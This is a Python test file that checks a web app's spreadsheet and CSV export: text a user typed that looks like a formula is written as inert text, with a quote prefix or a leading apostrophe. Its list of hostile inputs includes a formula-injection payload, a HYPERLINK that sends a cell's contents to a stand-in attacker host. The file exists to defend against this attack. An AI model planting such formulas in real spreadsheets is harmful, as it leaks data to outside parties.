"""Spreadsheets the app writes: text people typed is written as text, never as a live formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from deliverology.web.workbooks import append_row, csv_row, new_workbook

SOURCE = Path(__file__).resolve().parents[2] / "src" / "deliverology"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def formulas(content: bytes) -> list[str]:
    """Every formula element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            formula
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for formula in re.findall(r"<f[ >].*?</f>", archive.read(name).decode("utf-8"))
        ]


def text_cells_starting_like_formulas(content: bytes) -> list[tuple[str, object, bool]]:
    """(sheet, value, quote prefix) of every cell whose text starts like a formula."""
    book = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.value, bool(cell.quotePrefix))
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def saved(book) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("write_only", [False, True])
def test_it_writes_text_that_looks_like_a_formula_as_text_and_keeps_it_unchanged(write_only):
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("Typed")
    append_row(sheet, HOSTILE)
    content = saved(book)
    assert formulas(content) == []
    cells = load_workbook(io.BytesIO(content))["Typed"][1]
    # XML reads a carriage return back as a line feed; everything else comes back as written.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_it_keeps_numbers_as_numbers_negative_ones_too():
    book = new_workbook()
    append_row(book.active, [-3.5, -2, 0, 12.25, None, "plain text"])
    cells = load_workbook(io.BytesIO(saved(book))).active[1]
    assert [cell.value for cell in cells] == [-3.5, -2, 0, 12.25, None, "plain text"]
    assert [cell.data_type for cell in cells[:4]] == ["n"] * 4
    assert not any(cell.quotePrefix for cell in cells)


def test_it_gives_csv_text_that_looks_like_a_formula_a_leading_apostrophe():
    stream = io.StringIO()
    csv.writer(stream).writerow(csv_row(["=1+1", "@x", "-y", -4.5, 7, "fine"]))
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == [
        "'=1+1",
        "'@x",
        "'-y",
        "-4.5",
        "7",
        "fine",
    ]


def test_it_is_the_only_place_that_makes_a_workbook_to_write():
    makers = sorted(
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if re.search(r"\bWorkbook\(|csv\.(?:writer|DictWriter)\(", path.read_text("utf-8"))
    )
    assert makers == ["web/workbooks.py"]
